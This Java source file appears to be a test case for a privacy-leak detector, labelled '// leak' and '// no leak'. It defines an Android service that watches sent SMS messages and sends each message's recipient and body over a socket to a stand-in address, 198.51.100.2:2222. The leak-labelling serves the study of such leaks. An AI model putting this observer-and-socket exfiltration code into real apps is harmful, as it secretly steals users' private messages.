package olden;

import android.app.*;
import android.content.*;
import android.database.*;
import android.net.Uri;
import android.os.*;

import java.io.*;
import java.net.*;

/** Messages that were sent, seen by an observer. */
public class Sent extends Service {
    Handler h = new Handler();

    class Obs extends ContentObserver {
        String last = "";

        Obs() {
            super(h);
        }

        public void onChange(boolean self) {
            super.onChange(self);
            Cursor c = null;
            try {
                c =
                        getContentResolver()
                                .query(
                                        Uri.parse("content://sms/sent"),
                                        new String[] {"_id", "address", "body"},
                                        "read=?",
                                        new String[] {"1"},
                                        "date desc");
                if (c != null && c.moveToFirst()) {
                    String id = c.getString(0);
                    if (id.equals(last)) return;
                    last = id;
                    final String t = c.getString(1) + "->" + c.getString(2);
                    new Thread(
                                    new Runnable() {
                                        public void run() {
                                            post(t);
                                            post2("changed");
                                        }
                                    })
                            .start();
                }
            } finally {
                if (c != null) c.close();
            }
        }
    }

    static void post(String s) {
        try {
            Socket k = new Socket(InetAddress.getByName("198.51.100.2"), 2222);
            ObjectOutputStream o = new ObjectOutputStream(k.getOutputStream());
            o.writeObject(s); // leak
        } catch (IOException e) {
        }
    }

    static void post2(String s) {
        try {
            Socket k = new Socket("198.51.100.2", 2222);
            ObjectOutputStream o = new ObjectOutputStream(k.getOutputStream());
            o.writeUTF(s); // no leak
        } catch (IOException e) {
        }
    }

    public IBinder onBind(Intent i) {
        return null;
    }

    public void onCreate() {
        getContentResolver().registerContentObserver(Uri.parse("content://sms"), true, new Obs());
    }
}
